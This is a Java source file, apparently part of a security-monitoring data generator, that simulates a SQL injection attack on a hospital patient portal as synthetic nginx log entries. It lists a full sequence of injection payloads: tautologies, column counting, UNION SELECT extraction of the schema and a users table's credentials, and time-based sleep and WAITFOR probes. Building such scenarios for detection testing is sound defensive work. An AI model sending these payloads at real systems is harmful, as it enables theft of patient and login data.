package vn.gov.moh.soc.agent.generate;

import java.util.List;
import java.util.SplittableRandom;

/**
 * Manual SQL injection against the portal's patient search and APIs from one external address
 * with an ordinary browser user agent: a benign search, a quote that breaks the query (500),
 * then tautologies, ORDER BY column counting, UNION SELECT extraction (version, schema, the
 * users table), a time-based probe on the appointments API and a stacked WAITFOR on the FHIR API.
 */
final class SqlInjectionScenario implements Scenario {
    /** Request target, status, response size. */
    private record Request(String target, int status, int bytes) {
    }

    private static final List<Request> REQUESTS = List.of(
            new Request("/his/patient/search?q=nguyen+van&page=1", 200, 18_412),
            new Request("/his/patient/search?q=nguyen%27&page=1", 500, 1_732),
            new Request("/his/patient/search?q=nguyen%27%20or%20%271%27%3D%271&page=1", 200, 481_220),
            new Request("/his/patient/search?q=nguyen%27%20order%20by%2010--%20-&page=1", 500, 1_732),
            new Request("/his/patient/search?q=nguyen%27%20order%20by%206--%20-&page=1", 200, 3_105),
            new Request("/his/patient/search?q=nguyen%27%20union%20select%20null,null,null,null,null,null--%20-&page=1",
                    200, 3_388),
            new Request("/his/patient/search?q=x%27%20union%20select%20version(),current_user,null,null,null,null--%20-",
                    200, 3_512),
            new Request("/his/patient/search?q=x%27%20union%20select%20table_name,null,null,null,null,null%20from%20information_schema.tables--%20-",
                    200, 27_904),
            new Request("/his/patient/search?q=x%27%20union%20select%20ten_dang_nhap,mat_khau,null,null,null,null%20from%20nguoi_dung--%20-",
                    200, 9_871),
            new Request("/api/appointments?id=1%20and%20sleep(5)", 200, 412),
            new Request("/fhir/Patient?name=a%27;waitfor%20delay%20%270:0:5%27--", 400, 266),
            new Request("/his/patient/view?id=1%20or%201=1", 200, 52_310));

    @Override
    public ScenarioPlan plan(ScenarioContext c) {
        SplittableRandom rng = c.rng();
        HospitalUnit u = c.unit();
        Host web = u.linuxServer("his-web-01");
        String ip = Addresses.attacker(rng);
        String agent = WebTraffic.DESKTOP_AGENTS[rng.nextInt(WebTraffic.DESKTOP_AGENTS.length)];
        String referrer = "https://" + u.portal() + "/his/patient/search";
        ScenarioPlan.Builder plan = new ScenarioPlan.Builder();
        double t = 0;
        for (Request r : REQUESTS) {
            plan.add(c.at(t), TelemetryStream.NGINX, (sb, f, n) -> {
                f.access.begin(sb, n, ip).append("GET ").append(r.target());
                f.access.end(sb, r.status(), r.bytes(), referrer, agent);
            });
            t += 2 + rng.nextDouble() * 10;
        }
        return plan.build(c, ip, null, web.fqdn(), List.of());
    }
}
